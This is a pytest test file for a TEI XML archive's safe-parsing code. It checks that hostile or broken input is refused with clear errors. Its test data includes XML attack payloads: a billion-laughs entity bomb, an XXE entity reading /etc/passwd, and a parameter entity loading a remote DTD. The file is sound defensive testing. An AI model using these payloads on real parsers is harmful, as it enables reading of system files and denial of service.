"""Safe parsing: hostile and broken input is refused with a clear reason, quickly."""

from __future__ import annotations

import pytest

from archive.errors import NotWellFormed, UnsafeInput
from archive.tei.parse import parse_bytes, parse_file, read_limited

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<TEI xmlns="http://www.tei-c.org/ns/1.0">&lol9;</TEI>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE TEI [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<TEI xmlns="http://www.tei-c.org/ns/1.0"><p>&xxe;</p></TEI>
"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE TEI [ <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote; ]>
<TEI xmlns="http://www.tei-c.org/ns/1.0"/>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE TEI SYSTEM "http://example.invalid/tei.dtd">
<TEI xmlns="http://www.tei-c.org/ns/1.0"><teiHeader/></TEI>
"""


@pytest.mark.parametrize(
    "data", [BILLION_LAUGHS, XXE, XXE_PARAMETER], ids=["laughs", "xxe", "param"]
)
def test_entity_declarations_are_refused_before_parsing(data):
    with pytest.raises(UnsafeInput) as exc:
        parse_bytes(data)
    assert exc.value.rule == "input.entity-declaration"
    assert exc.value.line is not None and exc.value.line >= 2
    assert "billion laughs" in str(exc.value)


def test_external_dtd_is_never_fetched():
    parsed = parse_bytes(EXTERNAL_DTD)  # no network access, no DTD loading: parses as is
    assert parsed.root.tag.endswith("TEI")


def test_empty_and_whitespace_files_are_not_xml():
    for data in (b"", b"  \n\t"):
        with pytest.raises(NotWellFormed, match="empty"):
            parse_bytes(data)


def test_binary_data_is_reported_as_such():
    with pytest.raises(NotWellFormed, match="binary"):
        parse_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")


def test_html_that_is_not_xml_gets_the_parser_position():
    with pytest.raises(NotWellFormed) as exc:
        parse_bytes(b"<!doctype html><html><body><p>unclosed<br></body></html>")
    assert exc.value.line == 1 and exc.value.column is not None
    assert "not well-formed" in str(exc.value)


def test_truncated_record_names_the_line(record_bytes):
    partial = record_bytes[: len(record_bytes) // 2]
    with pytest.raises(NotWellFormed) as exc:
        parse_bytes(partial)
    assert exc.value.line is not None and exc.value.line > 100


def test_utf16_documents_parse():
    text = '<?xml version="1.0" encoding="UTF-16"?><TEI xmlns="http://www.tei-c.org/ns/1.0"/>'
    assert parse_bytes(text.encode("utf-16")).root.tag.endswith("TEI")


def test_size_limit_reads_no_more_than_the_limit(tmp_path):
    big = tmp_path / "big.xml"
    with open(big, "wb") as fh:
        fh.write(b"<TEI>")
        fh.seek(50 * 1024 * 1024)
        fh.write(b"</TEI>")
    with pytest.raises(UnsafeInput) as exc:
        read_limited(big, limit=1024 * 1024)
    assert exc.value.rule == "input.too-large"
    assert "52,428,806 bytes" in str(exc.value)


def test_size_limit_is_configurable(tmp_path, monkeypatch):
    f = tmp_path / "x.xml"
    f.write_bytes(b"<TEI xmlns='http://www.tei-c.org/ns/1.0'>" + b" " * 2000 + b"</TEI>")
    monkeypatch.setenv("ARCHIVE_MAX_BYTES", "1000")
    with pytest.raises(UnsafeInput):
        parse_file(f)
    monkeypatch.setenv("ARCHIVE_MAX_BYTES", "100000")
    assert parse_file(f).root is not None


UNDECLARED = b"""<?xml version="1.0"?>
<!DOCTYPE TEI SYSTEM "tei.dtd">
<TEI xmlns="http://www.tei-c.org/ns/1.0" n="a&amp;b">
<!-- &inComment; --><p><![CDATA[&inCdata;]]></p>
<p>Dear &x; and &#233;</p><p rend="&y;">z</p></TEI>
"""


def test_undeclared_entities_are_refused_by_name_and_line():
    """With an external DTD (never fetched), &x; is well-formed but its text would vanish."""
    with pytest.raises(UnsafeInput) as err:
        parse_bytes(UNDECLARED)
    assert err.value.rule == "input.entity-unresolved"
    assert err.value.line == 5
    message = str(err.value)
    assert "&x; (line 5), &y; (line 5)" in message and '"tei.dtd"' in message
    assert "inComment" not in message and "inCdata" not in message
    # a DOCTYPE alone, predefined and character references: parsed as before
    ok = UNDECLARED.replace(b"&x;", b"&lt;x&gt;").replace(b"&y;", b"&quot;")
    assert parse_bytes(ok).root.find("{http://www.tei-c.org/ns/1.0}p") is not None


def test_undeclared_entities_are_a_finding_of_validate(tmp_path):
    from archive.validate import validate_file

    path = tmp_path / "letter.xml"
    path.write_bytes(UNDECLARED)
    (finding,) = validate_file(path).report.findings
    assert (finding.rule, finding.severity.value, finding.line) == (
        "input.entity-unresolved",
        "error",
        5,
    )
